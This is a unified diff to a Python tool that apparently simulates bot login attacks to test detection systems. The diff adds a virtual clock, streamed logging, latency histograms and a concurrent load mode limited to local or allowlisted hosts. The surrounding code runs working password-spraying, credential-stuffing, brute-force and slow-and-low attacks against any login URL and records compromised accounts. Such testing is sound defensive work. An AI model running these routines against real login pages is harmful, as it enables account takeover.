@@ -2,30 +2,84 @@
 # Simulates detectable bot behavior for security testing purposes
 # WARNING: Use only on systems you own or have explicit permission to test
 
-import requests
 import time
 import random
 import threading
 import json
+import ipaddress
+from concurrent.futures import ThreadPoolExecutor
 from datetime import datetime, timedelta
 from urllib.parse import urljoin, urlparse
+import os
 import sys
 import argparse
 
+# The helper modules sit next to this script; runpy and other working
+# directories do not put it on the path
+sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
+
+from latency_histogram import LatencyHistograms
+from request_log_sink import RequestLogSink, RunningSummary
+from sim_clock import SystemClock
+
+# Load mode only ever targets these hosts, loopback addresses, or hosts
+# passed explicitly with --allow-host
+LOCAL_HOSTS = {'localhost'}
+
+
+def check_load_target(url, allowed_hosts=()):
+    """Raise ValueError unless url points at a local or explicitly allowlisted host"""
+    host = (urlparse(url).hostname or '').lower()
+    if host in LOCAL_HOSTS or host in {h.lower() for h in allowed_hosts}:
+        return host
+    try:
+        if ipaddress.ip_address(host).is_loopback:
+            return host
+    except ValueError:
+        pass
+    raise ValueError(f"Load mode refuses non-local target {host!r}; "
+                     f"pass --allow-host {host} if you own this system")
+
 class BotBehaviorSimulator:
     """
     Simulates various bot behaviors that can be detected by behavior identification systems.
     This tool is designed to test and validate bot detection mechanisms.
     """
     
-    def __init__(self, target_url, verbose=False):
+    def __init__(self, target_url, verbose=False, request_log=None, latency_report_every=0,
+                 clock=None, transport=None, rng=None):
         self.target_url = target_url
         self.verbose = verbose
-        self.session = requests.Session()
+        # All pacing and timestamps go through the clock; a VirtualClock plus a
+        # simulated transport (trace_synthesis.py) runs attacks without real time or network
+        self.clock = clock or SystemClock()
+        # Pacing jitter; pass a random.Random for reproducible runs
+        self.rng = rng if rng is not None else random
+        if transport is None:
+            # Imported here so --help and argument errors do not pay for requests
+            import requests
+            self.session = requests.Session()
+            self.request_error = requests.exceptions.RequestException
+        else:
+            self.session = transport
+            self.request_error = transport.error
         self.attempts = 0
         self.successful_logins = []
         self.start_time = None
-        self.request_log = []
+        # A list keeps every attempt in memory; a RequestLogSink streams them to disk
+        self.request_log = [] if request_log is None else request_log
+        self.summary = RunningSummary()
+        # Response-time histograms per attack mode and status code
+        self.latency = LatencyHistograms()
+        self.latency_report_every = latency_report_every
+        self.attack_mode = None
+        self.load_results = []
+        # Load-mode threads share the request log and summary
+        self._log_lock = threading.Lock()
+        # Extra fields stamped on every request log entry (e.g. source ip, trace labels)
+        self.log_context = {}
+        # print_summary writes a results file unless this is turned off
+        self.auto_export = True
         
         # Common password lists for testing
         self.common_passwords = [
@@ -56,18 +110,28 @@ class BotBehaviorSimulator:
             'Cache-Control': 'no-cache'
         }
     
-    def log_request(self, username, password, success, response_time, status_code):
-        """Log request details for analysis"""
+    def _append_log(self, username, password, success, response_time, status_code, attempt_number):
+        """Add one attempt to the request log and running summary"""
         log_entry = {
-            'timestamp': datetime.now().isoformat(),
+            'timestamp': self.clock.now().isoformat(),
             'username': username,
             'password': password,
             'success': success,
             'response_time': response_time,
             'status_code': status_code,
-            'attempt_number': self.attempts
+            'attempt_number': attempt_number
         }
-        self.request_log.append(log_entry)
+        log_entry.update(self.log_context)
+        with self._log_lock:
+            self.summary.add(log_entry)
+            self.request_log.append(log_entry)
+
+    def log_request(self, username, password, success, response_time, status_code):
+        """Log request details for analysis"""
+        self._append_log(username, password, success, response_time, status_code, self.attempts)
+        self.latency.record(response_time, status_code, self.attack_mode)
+        if self.latency_report_every and self.attempts % self.latency_report_every == 0:
+            print(self.latency.live_line())
     
     def simulate_login_attempt(self, username, password, delay_range=(0.5, 1.0)):
         """
@@ -82,10 +146,11 @@ class BotBehaviorSimulator:
         """
         
         self.attempts += 1
-        start_time = time.time()
         
         # Bot behavior: Consistent, predictable delays
-        time.sleep(random.uniform(delay_range[0], delay_range[1]))
+        self.clock.sleep(self.rng.uniform(delay_range[0], delay_range[1]))
+        # Response time covers the request only, not the pacing delay above
+        start_time = self.clock.perf_counter()
         
         if self.verbose:
             print(f"[ATTEMPT {self.attempts:04d}] Testing: {username}:{password}")
@@ -115,7 +180,7 @@ class BotBehaviorSimulator:
                 allow_redirects=False
             )
             
-            response_time = time.time() - start_time
+            response_time = self.clock.perf_counter() - start_time
             
             # Analyze response for success/failure
             success = self.analyze_response(response, username, password)
@@ -124,7 +189,7 @@ class BotBehaviorSimulator:
             self.log_request(username, password, success, response_time, response.status_code)
             
             if success:
-                self.successful_logins.append((username, password, datetime.now()))
+                self.successful_logins.append((username, password, self.clock.now()))
                 if self.verbose:
                     print(f"[SUCCESS] ✓ Valid credentials: {username}:{password}")
                 return True
@@ -133,7 +198,7 @@ class BotBehaviorSimulator:
                     print(f"[FAILED]  ✗ Invalid credentials: {username}:{password} (HTTP {response.status_code})")
                 return False
                 
-        except requests.exceptions.RequestException as e:
+        except self.request_error as e:
             if self.verbose:
                 print(f"[ERROR]   ⚠ Request failed for {username}:{password} - {str(e)}")
             return False
@@ -188,7 +253,8 @@ class BotBehaviorSimulator:
         print(f"[CONFIG] Delay between users: {delay_between_users}s")
         print("-" * 70)
         
-        self.start_time = datetime.now()
+        self.attack_mode = 'spray'
+        self.start_time = self.clock.now()
         
         # Bot behavior: Systematic approach, same password against all users
         for round_num, password in enumerate(self.common_passwords[:max_passwords], 1):
@@ -203,7 +269,7 @@ class BotBehaviorSimulator:
                     return True
                 
                 # Bot behavior: Consistent timing between attempts
-                time.sleep(delay_between_users)
+                self.clock.sleep(delay_between_users)
         
         print(f"\n[COMPLETE] Password spray attack finished")
         self.print_summary()
@@ -236,7 +302,8 @@ class BotBehaviorSimulator:
         print(f"[CONFIG] Credential pairs to test: {len(credential_list)}")
         print("-" * 70)
         
-        self.start_time = datetime.now()
+        self.attack_mode = 'stuffing'
+        self.start_time = self.clock.now()
         
         for i, (username, password) in enumerate(credential_list, 1):
             print(f"\n[PAIR {i:02d}] Testing leaked credentials: {username}:{password}")
@@ -266,7 +333,8 @@ class BotBehaviorSimulator:
         print(f"[CONFIG] Delay between attempts: {delay}s")
         print("-" * 70)
         
-        self.start_time = datetime.now()
+        self.attack_mode = 'brute'
+        self.start_time = self.clock.now()
         
         passwords_to_try = self.common_passwords[:max_passwords]
         
@@ -281,7 +349,7 @@ class BotBehaviorSimulator:
                 return True
             
             # Bot behavior: Consistent delay between attempts
-            time.sleep(delay)
+            self.clock.sleep(delay)
         
         print(f"\n[COMPLETE] Brute force attack finished")
         self.print_summary()
@@ -298,14 +366,15 @@ class BotBehaviorSimulator:
         print(f"[CONFIG] Request rate: {requests_per_hour} per hour")
         print("-" * 70)
         
-        self.start_time = datetime.now()
+        self.attack_mode = 'slow'
+        self.start_time = self.clock.now()
         end_time = self.start_time + timedelta(minutes=duration_minutes)
         
         interval = 3600 / requests_per_hour  # seconds between requests
         credential_pairs = [(u, p) for u in self.common_usernames[:5] for p in self.common_passwords[:5]]
         
         attempt_count = 0
-        while datetime.now() < end_time and attempt_count < len(credential_pairs):
+        while self.clock.now() < end_time and attempt_count < len(credential_pairs):
             username, password = credential_pairs[attempt_count]
             
             print(f"[SLOW ATTEMPT] {username}:{password} (Rate: {requests_per_hour}/hour)")
@@ -316,19 +385,143 @@ class BotBehaviorSimulator:
                 return True
             
             # Bot behavior: Extremely consistent timing (detectable pattern)
-            time.sleep(interval)
+            self.clock.sleep(interval)
             attempt_count += 1
         
         print(f"\n[COMPLETE] Slow and low attack finished")
         self.print_summary()
         return False
     
+    def _load_worker(self, stage, credentials):
+        """Send requests until the stage ends, paced by the shared send schedule"""
+        # Per-thread histograms, merged into the stage's when the thread finishes
+        latency = LatencyHistograms()
+        try:
+            self._load_requests(stage, credentials, latency)
+        finally:
+            with stage['lock']:
+                stage['latency'].merge(latency)
+
+    def _load_requests(self, stage, credentials, latency):
+        while True:
+            with stage['lock']:
+                index = stage['sent']
+                stage['sent'] += 1
+            if stage['rate']:
+                send_at = stage['start'] + index / stage['rate']
+                if send_at >= stage['end']:
+                    return
+                time.sleep(max(0.0, send_at - time.perf_counter()))
+            elif time.perf_counter() >= stage['end']:
+                return
+
+            username, password = credentials[index % len(credentials)]
+            start = time.perf_counter()
+            status = 'error'
+            try:
+                response = self.session.post(
+                    self.target_url,
+                    data={'username': username, 'password': password, 'login': 'Login', 'submit': 'Submit'},
+                    headers=self.bot_headers,
+                    timeout=10,
+                    allow_redirects=False
+                )
+                latency_s = time.perf_counter() - start
+                status = response.status_code
+                if response.status_code in (403, 429):
+                    outcome = 'blocked'
+                elif response.status_code >= 500:
+                    outcome = 'error'
+                elif self.analyze_response(response, username, password):
+                    outcome = 'success'
+                else:
+                    outcome = 'failure'
+                flagged = outcome == 'blocked' or response.headers.get('X-Fraud-Flagged') == '1'
+            except self.request_error:
+                latency_s = time.perf_counter() - start
+                outcome, flagged = 'error', False
+
+            latency.record(latency_s, status, 'load')
+            # self.attempts only moves on between stages
+            self._append_log(username, password, outcome == 'success', latency_s, status,
+                             self.attempts + index + 1)
+            with stage['lock']:
+                stage['outcomes'][outcome] = stage['outcomes'].get(outcome, 0) + 1
+                stage['flagged'] += flagged
+
+    def load_test(self, concurrency_levels=(1, 4, 16), rate=0.0, stage_seconds=10.0, allowed_hosts=()):
+        """
+        Concurrent load against a local defense stack, one stage per concurrency level
+
+        Each stage runs `concurrency` threads sharing one pooled session for
+        `stage_seconds`. With `rate` > 0 the threads follow a shared schedule
+        of `rate` requests per second; otherwise they send as fast as the
+        server answers. Only local or allowlisted targets are accepted.
+        """
+        check_load_target(self.target_url, allowed_hosts)
+        if not isinstance(self.clock, SystemClock):
+            raise ValueError("Load mode measures real throughput and needs the system clock")
+        from requests.adapters import HTTPAdapter
+
+        print(f"\n[ATTACK] Starting Load Test")
+        print(f"[CONFIG] Target: {self.target_url}")
+        print(f"[CONFIG] Concurrency levels: {', '.join(map(str, concurrency_levels))}")
+        print(f"[CONFIG] Target rate: {f'{rate:g} req/s' if rate else 'unlimited'}, {stage_seconds:g}s per stage")
+        print("-" * 70)
+        print(f"{'threads':>8}{'req/s':>10}{'p50 ms':>9}{'p99 ms':>9}{'p99.9 ms':>10}{'errors':>9}{'detected':>10}{'blocked':>9}")
+
+        self.attack_mode = 'load'
+        self.start_time = self.clock.now()
+        credentials = [(u, p) for p in self.common_passwords for u in self.common_usernames]
+        for concurrency in concurrency_levels:
+            # One keep-alive connection per thread, shared through the session's pool
+            adapter = HTTPAdapter(pool_connections=1, pool_maxsize=concurrency, pool_block=True)
+            self.session.mount('http://', adapter)
+            self.session.mount('https://', adapter)
+
+            start = time.perf_counter()
+            stage = {'lock': threading.Lock(), 'sent': 0, 'rate': rate, 'start': start,
+                     'end': start + stage_seconds, 'outcomes': {}, 'flagged': 0, 'latency': LatencyHistograms()}
+            with ThreadPoolExecutor(max_workers=concurrency) as pool:
+                for _ in range(concurrency):
+                    pool.submit(self._load_worker, stage, credentials)
+            elapsed = time.perf_counter() - start
+
+            completed = stage['latency'].overall.total
+            percentiles = stage['latency'].overall.percentiles_ms()
+            outcomes = stage['outcomes']
+            result = {
+                'concurrency': concurrency,
+                'target_rate': rate,
+                'requests': completed,
+                'achieved_rps': completed / elapsed,
+                'latency_ms': percentiles,
+                'outcomes': outcomes,
+                'error_rate': outcomes.get('error', 0) / completed if completed else 0.0,
+                'detection_rate': stage['flagged'] / completed if completed else 0.0,
+                'block_rate': outcomes.get('blocked', 0) / completed if completed else 0.0,
+            }
+            self.load_results.append(result)
+            self.attempts += completed
+
+            self.latency.merge(stage['latency'])
+            if completed:
+                print(f"{concurrency:>8}{result['achieved_rps']:>10.1f}{percentiles['p50']:>9.2f}"
+                      f"{percentiles['p99']:>9.2f}{percentiles['p99.9']:>10.2f}{result['error_rate']:>9.1%}"
+                      f"{result['detection_rate']:>10.1%}{result['block_rate']:>9.1%}")
+            else:
+                print(f"{concurrency:>8}{'no requests completed':>64}")
+
+        print(f"\n[COMPLETE] Load test finished")
+        self.print_summary()
+        return self.load_results
+
     def print_summary(self):
         """Print attack summary and statistics"""
         if not self.start_time:
             return
         
-        duration = datetime.now() - self.start_time
+        duration = self.clock.now() - self.start_time
         
         print(f"\n{'='*70}")
         print(f"ATTACK SUMMARY")
@@ -337,6 +530,13 @@ class BotBehaviorSimulator:
         print(f"Total attempts: {self.attempts}")
         print(f"Successful logins: {len(self.successful_logins)}")
         print(f"Attack rate: {self.attempts / duration.total_seconds():.2f} attempts/second")
+        if self.summary.total:
+            stats = self.summary.snapshot()
+            print(f"Response time: mean {stats['response_time_mean'] * 1000:.1f}ms, "
+                  f"max {stats['response_time_max'] * 1000:.1f}ms")
+        if self.latency.overall.total:
+            print(f"\nRESPONSE TIME PERCENTILES:")
+            print(self.latency.format_table())
         
         if self.successful_logins:
             print(f"\nCOMPROMISED ACCOUNTS:")
@@ -351,11 +551,13 @@ class BotBehaviorSimulator:
         print(f"  ✓ Predictable credential sequences")
         print(f"  ✓ Static HTTP headers")
         
-        if self.request_log:
+        if self.auto_export and (self.summary.total or self.load_results):
             self.export_results()
     
     def export_results(self, filename=None):
         """Export attack results to JSON file"""
+        if not isinstance(self.request_log, list):
+            self.request_log.flush()
         if not filename:
             timestamp = datetime.now().strftime("%Y%m%d_%H%M%S")
             filename = f"bot_attack_results_{timestamp}.json"
@@ -364,7 +566,7 @@ class BotBehaviorSimulator:
             'attack_summary': {
                 'target_url': self.target_url,
                 'start_time': self.start_time.isoformat() if self.start_time else None,
-                'end_time': datetime.now().isoformat(),
+                'end_time': self.clock.now().isoformat(),
                 'total_attempts': self.attempts,
                 'successful_logins': len(self.successful_logins)
             },
@@ -372,7 +574,10 @@ class BotBehaviorSimulator:
                 {'username': u, 'password': p, 'timestamp': t.isoformat()}
                 for u, p, t in self.successful_logins
             ],
-            'request_log': self.request_log,
+            'request_summary': self.summary.snapshot(),
+            'latency_histograms': self.latency.to_dict(),
+            'request_log': self.request_log if isinstance(self.request_log, list) else {'files': self.request_log.files},
+            'load_test': self.load_results,
             'bot_indicators': [
                 'Consistent timing patterns',
                 'High-frequency requests', 
@@ -398,13 +603,26 @@ def main():
     )
     
     parser.add_argument('target_url', help='Target login URL to test')
-    parser.add_argument('--attack-mode', choices=['spray', 'stuffing', 'brute', 'slow'], 
+    parser.add_argument('--attack-mode', choices=['spray', 'stuffing', 'brute', 'slow', 'load'], 
                        default='spray', help='Attack mode to execute')
     parser.add_argument('--username', default='admin', help='Target username for brute force')
     parser.add_argument('--max-passwords', type=int, default=10, help='Maximum passwords to try')
     parser.add_argument('--delay', type=float, default=1.0, help='Delay between requests (seconds)')
     parser.add_argument('--verbose', '-v', action='store_true', help='Enable verbose output')
     parser.add_argument('--duration', type=int, default=30, help='Duration for slow attack (minutes)')
+    parser.add_argument('--concurrency', type=int, nargs='+', default=[1, 4, 16],
+                        help='Thread counts for load mode, one stage each')
+    parser.add_argument('--rate', type=float, default=0.0, help='Target requests/second in load mode (0 = unlimited)')
+    parser.add_argument('--stage-seconds', type=float, default=10.0, help='Duration of each load stage (seconds)')
+    parser.add_argument('--allow-host', action='append', default=[],
+                        help='Extra host load mode may target (default: localhost/loopback only)')
+    parser.add_argument('--log-prefix', help='Request log file prefix (default: bot_attack_log_<timestamp>)')
+    parser.add_argument('--log-gzip', action='store_true', help='Compress the request log')
+    parser.add_argument('--log-max-mb', type=float, default=64.0, help='Rotate the request log at this size (MB)')
+    parser.add_argument('--log-rotate-minutes', type=float, help='Also rotate the request log after this many minutes')
+    parser.add_argument('--log-buffer', type=int, default=256, help='Attempts buffered between log writes')
+    parser.add_argument('--latency-every', type=int, default=50,
+                        help='Print live response-time percentiles every N attempts (0 = off)')
     
     args = parser.parse_args()
     
@@ -413,6 +631,12 @@ def main():
     if not parsed_url.scheme or not parsed_url.netloc:
         print(f"[ERROR] Invalid URL: {args.target_url}")
         sys.exit(1)
+    if args.attack_mode == 'load':
+        try:
+            check_load_target(args.target_url, args.allow_host)
+        except ValueError as e:
+            print(f"[ERROR] {e}")
+            sys.exit(1)
     
     print("="*70)
     print("BOT AUTHENTICATION TESTING FRAMEWORK")
@@ -422,8 +646,14 @@ def main():
     print("Ensure you have permission to test this system!")
     print("="*70)
     
+    # Stream attempts to disk so long runs keep constant memory
+    log_prefix = args.log_prefix or f"bot_attack_log_{datetime.now().strftime('%Y%m%d_%H%M%S')}"
+    request_log = RequestLogSink(log_prefix, args.log_gzip, int(args.log_max_mb * 2 ** 20),
+                                 args.log_rotate_minutes * 60 if args.log_rotate_minutes else None,
+                                 args.log_buffer)
+    
     # Initialize bot simulator
-    bot = BotBehaviorSimulator(args.target_url, args.verbose)
+    bot = BotBehaviorSimulator(args.target_url, args.verbose, request_log, args.latency_every)
     
     # Execute selected attack mode
     try:
@@ -436,6 +666,8 @@ def main():
         elif args.attack_mode == 'slow':
             requests_per_hour = int(60 / args.delay)  # Calculate rate from delay
             bot.slow_and_low_attack(args.duration, requests_per_hour)
+        elif args.attack_mode == 'load':
+            bot.load_test(args.concurrency, args.rate, args.stage_seconds, args.allow_host)
             
     except KeyboardInterrupt:
         print(f"\n\n[INTERRUPTED] Attack stopped by user")
@@ -446,6 +678,11 @@ def main():
     except Exception as e:
         print(f"\n[ERROR] Attack failed: {e}")
         sys.exit(1)
+    
+    finally:
+        request_log.close()
+        if request_log.files:
+            print(f"[EXPORT] Request log: {', '.join(request_log.files)}")
 
 if __name__ == "__main__":
     main()
\ No newline at end of file